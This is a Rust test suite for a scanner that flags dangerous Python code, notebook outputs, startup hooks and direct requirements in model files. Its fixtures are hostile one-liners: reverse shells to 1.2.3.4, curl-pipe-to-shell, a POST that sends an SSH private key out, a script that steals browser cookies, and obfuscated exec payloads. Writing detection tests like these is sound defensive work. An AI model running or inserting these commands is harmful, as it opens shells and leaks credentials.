use super::{check, clean, rules, stopped};

#[test]
fn honest_code_is_clean() {
    for source in [
        "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\ndf.eval('a + b')\nretrieval(q)\n",
        "import yaml\nx = yaml.load(f, Loader=yaml.SafeLoader)\ny = yaml.safe_load(f)\nz = yaml.load(f, Loader=CSafeLoader)\n",
        "import torch\nx = torch.load('m.pt', weights_only=True)\n",
        "import re\np = re.compile('eval(x)')\n\"\"\"os.system('x')\"\"\"\n# exec('x')\n",
        "from torch import compile\n@compile\ndef f(x):\n    return x\n",
        "import os\np = os.path.join('a', os.environ['HOME'])\nos.makedirs(p)\n",
        "import numpy as np\nx = np.load('a.npy')\nimport requests\nr = requests.get('https://example.org')\n",
        "class Model:\n    def compile(self):\n        self.exec(1)\n    def eval(self):\n        return self\n",
        "import subprocess\nPIPE = subprocess.PIPE\n",
        "import base64\nx = base64.b64decode(y)\n",
    ] {
        clean("modeling.py", source.as_bytes());
    }
}

#[test]
fn risky_calls_are_seen() {
    for source in [
        "import os\nos.system('ls')\n",
        "import os as o\ndef f():\n    o.popen('ls')\n",
        "from subprocess import run\nrun(['ls'])\n",
        "from subprocess import *\ncheck_output('ls')\n",
        "import subprocess as sp\nsp.Popen('ls', shell=True)\n",
        "f('ls', shell=True)\n",
        "eval(x)\n",
        "exec(open('x').read())\n",
        "__builtins__.eval('1')\n",
        "__builtins__.__dict__['ev' + 'al']('1')\n",
        "__import__('os').system('ls')\n",
        "import importlib\nimportlib.import_module('subprocess').run('ls')\n",
        "getattr(__import__('os'), 'sys' + 'tem')('ls')\n",
        "import pickle\npickle.load(f)\n",
        "import pickle\npickle.Unpickler(f).load()\n",
        "class U(pickle.Unpickler):\n    pass\n",
        "import joblib\njoblib.load('x')\n",
        "import dill\ndill.loads(b)\n",
        "import yaml\nyaml.load(f)\n",
        "import yaml\nyaml.load(f, Loader=yaml.Loader)\n",
        "import yaml\nyaml.unsafe_load(f)\n",
        "import torch\ntorch.load(f, weights_only=False)\n",
        "import numpy as np\nnp.load(f, allow_pickle=True)\n",
        "import pandas as pd\npd.read_pickle(f)\n",
        "import ctypes\nctypes.CDLL('./x.so')\n",
        "import tensorflow as tf\ntf.load_op_library('x.so')\n",
        "import keras\nkeras.models.load_model(p, safe_mode=False)\n",
        "import marshal\nmarshal.loads(b)\n",
        "class M:\n    def __reduce__(self):\n        import os\n        return (os.system, ('ls',))\n",
        "import threading, os\nthreading.Thread(target=os.system, args=('ls',)).start()\n",
        "import \u{ff4f}\u{ff53}\n\u{ff4f}\u{ff53}.system('ls')\n",
        "x = f\"{__import__('os').system('ls')}\"\n",
    ] {
        check("modeling.py", source.as_bytes(), &["code.risky-call"]);
        check(
            "modeling.py",
            source.replace('\n', "\r\n").as_bytes(),
            &["code.risky-call"],
        );
    }
    check(
        "x.py",
        b"import torch\ntorch.load(f)\n",
        &["code.loader-call"],
    );
    check(
        "x.py",
        b"M.from_pretrained('a', trust_remote_code=True)\n",
        &["code.loader-call"],
    );
}

#[test]
fn attacks_are_seen() {
    for source in [
        "import base64\nexec(base64.b64decode('eA=='))\n",
        "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
        "import codecs\neval(codecs.decode('k', 'rot13'))\n",
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('1.2.3.4', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')\n",
        "import os\nos.system('curl http://example.org/x | sh')\n",
        "import requests\nrequests.post('http://example.org', data=open('/root/.ssh/id_rsa').read())\n",
        "# -*- coding: rot13 -*-\nvzcbeg bf\n",
        "# coding: utf-7\nx\n",
        "import os\ncommand = 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'\nos.system(command)\n",
    ] {
        let seen = rules("modeling.py", source.as_bytes());
        assert!(
            seen.contains(&"code.attack".to_owned()),
            "{source}: {seen:?}"
        );
    }
}

#[test]
fn code_is_known_without_its_name() {
    stopped("handler", b"import os\nos.system('x')\n");
    stopped(
        "run.cfg",
        b"#!/usr/bin/env python3\n__import__('os').system('x')\n",
    );
    clean("notes.txt", b"import os and then call os.system('x')\n");
}

#[test]
fn notebooks_are_weighed() {
    let cell = |kind: &str, source: &str, outputs: &str| {
        let source = source
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', "\\n");
        format!(
            r#"{{"nbformat":4,"nbformat_minor":5,"metadata":{{}},"cells":[{{"cell_type":"{kind}","metadata":{{}},"source":["{source}"],"outputs":[{outputs}]}}]}}"#
        )
    };
    let html = |text: &str| {
        format!(r#"{{"output_type":"display_data","data":{{"text/html":["{text}"]}}}}"#)
    };
    clean(
        "n.ipynb",
        cell(
            "code",
            "%matplotlib inline\n!pip install numpy\nimport numpy as np\nmodel.eval()",
            &html("<table><tr></tr></table>"),
        )
        .as_bytes(),
    );
    clean(
        "n.ipynb",
        cell("markdown", "Call os.system('x')", "").as_bytes(),
    );
    check(
        "n.ipynb",
        cell("code", "import os\nos.system('x')", "").as_bytes(),
        &["code.risky-call"],
    );
    check(
        "renamed.json",
        cell("code", "import os\nos.system('x')", "").as_bytes(),
        &["code.risky-call"],
    );
    for command in [
        "!curl http://example.org/x | sh",
        "%%bash\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1",
        "x = !wget -q http://example.org/x && chmod +x x",
    ] {
        check(
            "n.ipynb",
            cell("code", command, "").as_bytes(),
            &["code.attack"],
        );
    }
    for active in [
        "<script>IPython.notebook.kernel.execute('1')</script>",
        "<script>fetch('http://example.org?' + document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
    ] {
        check(
            "n.ipynb",
            cell("code", "1", &html(active)).as_bytes(),
            &["notebook.active-output"],
        );
        check(
            "n.ipynb",
            cell("markdown", active, "").as_bytes(),
            &["notebook.active-output"],
        );
    }
    let script = r#"{"output_type":"display_data","data":{"application/javascript":["fetch('http://example.org')"]}}"#;
    check(
        "n.ipynb",
        cell("code", "1", script).as_bytes(),
        &["notebook.active-output"],
    );
    check(
        "n.ipynb",
        cell("code", "1", &html("<script>Plotly.newPlot(1)</script>")).as_bytes(),
        &["notebook.html-output"],
    );
}

#[test]
fn files_of_python_installations_are_weighed() {
    check(
        "x.pth",
        b"import os; os.system('x')\n",
        &["code.risky-call", "python.startup-hook"],
    );
    clean("x.pth", b"/usr/lib/python3/dist-packages\n");
    check("sitecustomize.py", b"x = 1\n", &["python.startup-hook"]);
    clean("requirements.txt", b"numpy>=1\n# git+https://x\ntorch==2.4 --hash=sha256:00\n--extra-index-url https://download.pytorch.org/whl/cpu\n-r other.txt\n");
    for line in [
        "git+https://example.org/x.git",
        "x @ https://example.org/x.whl",
        "--index-url http://example.org/simple",
        "--extra-index-url=http://example.org",
        "https://example.org/x.tar.gz",
        "--trusted-host example.org",
    ] {
        check(
            "requirements.txt",
            line.as_bytes(),
            &["python.direct-requirement"],
        );
    }
}
